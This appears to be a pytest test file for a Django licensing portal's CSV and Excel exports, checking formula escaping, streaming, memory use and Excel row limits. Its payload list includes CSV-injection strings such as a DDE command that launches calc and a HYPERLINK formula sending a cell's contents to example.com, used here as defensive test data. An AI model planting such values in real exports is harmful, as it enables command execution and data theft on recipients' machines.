"""Exported files: formulas are guarded, and long files cost no memory."""

import io
import tracemalloc
import zipfile

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation

from customers.models import Customer
from licences import downloads, operations
from licences.administration import events, resources
from licences.models import Event, LicenceGrant, Product
from licences.spreadsheets.escaping import unescaped
from licensing_portal.user_admin import UserTable
from tests import factories
from tests.administration.admin_lists import MODELS, columns_of, csv_rows, export, something_in_every_list, xlsx_cells
from tests.tables import each_row

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+49 7071 555 0163",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''+1",
]
HARMLESS = ["Müller & Söhne", "'s Hertogenbosch", "1-2", "a=b", "#N/A", "TRUE", "007", "1e5", "2026-11-24"]


@pytest.fixture
def customer(catalogue):
    return factories.bought().site.customer


def renamed(customer, name):
    customer.name = name
    customer.save()


# --- Formulas --------------------------------------------------------------------------------------


@each_row("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_disarmed_in_a_csv(text, customer, as_root):
    renamed(customer, text)

    _header, row = csv_rows(export(as_root, Customer, columns=["name"]))

    assert row[0][0] == "'"
    assert unescaped(row[0]) == text


@each_row("text", [";=1+1", "Ost\t=1+1", 'Ost,"=1+1', "Ost; @SUM(A1)", "Ost\n=1+1"])
@each_row("delimiter", [",", ";", "\t"])
def test_no_program_finds_a_formula_behind_another_delimiter(text, delimiter, customer, as_root):
    renamed(customer, text)

    content = b"".join(export(as_root, Customer, columns=["name", "number"]).streaming_content).decode("utf-8-sig")

    cells = [cell for line in content.splitlines() for cell in line.split(delimiter)]
    assert not [cell for cell in cells if cell.lstrip(' "')[:1] in {"=", "@", "\t"}]


@each_row("text", FORMULAS)
def test_in_a_workbook_it_is_a_text_as_the_record_has_it(text, customer, as_root):
    renamed(customer, text)

    answer = export(as_root, Customer, columns=["name"], format="xlsx")
    content = b"".join(answer.streaming_content)
    answer.streaming_content = [content]
    _header, (cell,) = xlsx_cells(answer)

    assert (cell.data_type, cell.number_format) == ("s", "@")
    assert cell.value.replace("_x000D_", "\r") == text
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


@each_row("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is_and_a_text(text, customer, as_root):
    renamed(customer, text)

    _header, row = csv_rows(export(as_root, Customer, columns=["name"]))
    _header, (cell,) = xlsx_cells(export(as_root, Customer, columns=["name"], format="xlsx"))

    assert row == [text]
    assert (cell.value, cell.data_type, cell.number_format) == (text, "s", "@")


@each_row("text", ["a\x0bb", "a\x1fb", "_x0041_", "x" * 40_000, "🏭 \u202eabc", "\ufffe"])
def test_no_text_that_is_on_record_breaks_a_workbook(text, catalogue, as_root):
    serial = factories.bought()
    serial.blocked_at, serial.blocked_reason = serial.created_at, text
    serial.save()

    answer = export(as_root, type(serial), columns=["code", "blocked_reason"], format="xlsx")
    _header, (code, reason) = xlsx_cells(answer)

    assert code.value == str(serial)
    assert reason.data_type == "s"
    assert len(reason.value) <= 32_767


def test_numbers_below_zero_are_no_formulas(catalogue, as_root):
    serial = factories.bought(quantity=5)
    factories.bought(serial=serial.code, quantity=-2, customer_number=serial.site.customer.number)

    rows = csv_rows(export(as_root, LicenceGrant, columns=["quantity"]))

    assert sorted(rows[1:]) == [["-2"], ["5"]]


def test_formulas_in_details_that_are_kept_as_json_are_disarmed_too(catalogue, as_root):
    operations.block_serial(serial=factories.bought().code, reason="=1+1 is what they wrote", by="@clerk")

    rows = csv_rows(export(as_root, Event, columns=["actor", "details"]))

    assert rows[1][0] == "'@clerk"
    assert rows[1][1].startswith('{"reason": "=1+1 is what they wrote"')


# --- Length ----------------------------------------------------------------------------------------


def many_customers(count):
    Customer.objects.bulk_create(
        Customer(number=f"C-{number}", name=f"Customer {number} " + "x" * 100, name_search="x", match_key="x")
        for number in range(Customer.objects.count(), count)
    )


def test_the_number_of_queries_does_not_grow_with_the_rows(catalogue, root, as_root):
    something_in_every_list()
    before = [queries_of_export(as_root, model, root) for model in MODELS]
    something_in_every_list()
    User.objects.create_user("one more")

    assert [queries_of_export(as_root, model, root) for model in MODELS] == before


def queries_of_export(browser, model, user):
    with CaptureQueriesContext(connection) as captured:
        rows = csv_rows(export(browser, model, columns=columns_of(model, user)))
    assert len(rows) > 1
    return len(captured)


def test_rows_are_fetched_batch_by_batch(catalogue, root, monkeypatch):
    monkeypatch.setattr(resources, "_BATCH", 10)
    for number in range(25):
        User.objects.create_user(f"user {number:02}")
    table = UserTable(root)

    with CaptureQueriesContext(connection) as captured:
        batches = [len(batch) for batch in table.rows(User.objects.order_by("pk"), table.columns())]

    assert batches == [10, 10, 6]
    selects = [query["sql"] for query in captured if "SELECT" in query["sql"] or "FETCH" in query["sql"]]
    assert len([sql for sql in selects if "auth_group" in sql]) == 3  # the roles of each batch
    assert len(captured) <= 3 + 1 + 4  # the users: one statement, on PostgreSQL its cursor


@each_row("format", ["csv", "xlsx"])
def test_a_file_is_on_its_way_before_the_last_row_is_read(format):
    read = []

    def batches():
        for number in range(5):
            read.append(number)
            yield [[number]]

    answer = downloads.template_response(format, downloads.DownloadTable("numbers", ["Number"], batches()))
    chunks = iter(answer.streaming_content)

    assert read == []
    first = next(chunks)
    assert first == b"\xef\xbb\xbfNumber\r\n0\r\n" if format == "csv" else first.startswith(b"PK")
    assert read == [0, 1]
    rest = b"".join(chunks)
    assert rest == b"1\r\n2\r\n3\r\n4\r\n" if format == "csv" else zipfile.is_zipfile(io.BytesIO(first + rest))
    assert read == [0, 1, 2, 3, 4]


@each_row("format", ["csv", "xlsx"])
def test_the_worker_sends_a_heartbeat_with_every_batch(format, catalogue, as_root, monkeypatch):
    signs = []
    monkeypatch.setattr(downloads, "heartbeat", lambda: signs.append(1))
    monkeypatch.setattr(resources, "_BATCH", 2)

    size_of_export(as_root, Product, format)

    assert len(signs) >= 3


@each_row("format", ["csv", "xlsx"])
def test_memory_does_not_grow_with_the_file(format, as_root, monkeypatch):
    monkeypatch.setattr(resources, "_BATCH", 250)
    peaks = []
    for count in (1_000, 5_000):
        many_customers(count)
        tracemalloc.start()
        size = size_of_export(as_root, Customer, format)
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()

    assert size > (500_000 if format == "csv" else 40_000)
    assert peaks[1] < 1.3 * peaks[0] + 200_000


def size_of_export(browser, model, format):
    """The size of an export of all rows, which are discarded as they arrive."""
    answer = export(browser, model, columns=["name"], format=format)
    return sum(len(chunk) for chunk in answer.streaming_content)


def test_what_is_read_after_the_request_is_still_in_its_language(catalogue):
    table = events.EventTable()
    columns = table.columns(["kind"])
    with translation.override("de"):
        rows = table.rows(Event.objects.all(), columns)
        answer = downloads.template_response("csv", downloads.DownloadTable("events", ["Was"], rows))

    with translation.override("en"):
        text = b"".join(answer.streaming_content).decode()

    assert text.startswith("\ufeffWas\r\nProduktkatalog geändert\r\n")


# --- The last row of a workbook --------------------------------------------------------------------


def test_a_list_that_is_too_long_for_a_workbook_is_refused_in_words(catalogue, as_root, monkeypatch):
    monkeypatch.setattr(downloads, "XLSX_ROWS", 5)

    answer = export(as_root, Product, columns=["sku"], format="xlsx")

    assert answer.status_code == 422
    assert "An Excel file can have at most 5 rows" in answer.content.decode()
    assert "checked" in answer.content.decode()


def test_filtered_it_fits_and_a_csv_has_no_limit(catalogue, as_root, monkeypatch):
    monkeypatch.setattr(downloads, "XLSX_ROWS", 5)

    filtered = export(as_root, Product, columns=["sku"], format="xlsx", query="?q=Xchange+Server")
    assert len(xlsx_cells(filtered)) == 2
    assert len(csv_rows(export(as_root, Product, columns=["sku"]))) == 7


def test_a_list_of_exactly_that_length_is_exported(catalogue, as_root, monkeypatch):
    monkeypatch.setattr(downloads, "XLSX_ROWS", 6)

    assert len(xlsx_cells(export(as_root, Product, columns=["sku"], format="xlsx"))) == 7


def test_the_limit_is_that_of_the_file_format():
    assert downloads.XLSX_ROWS == 2**20 - 1
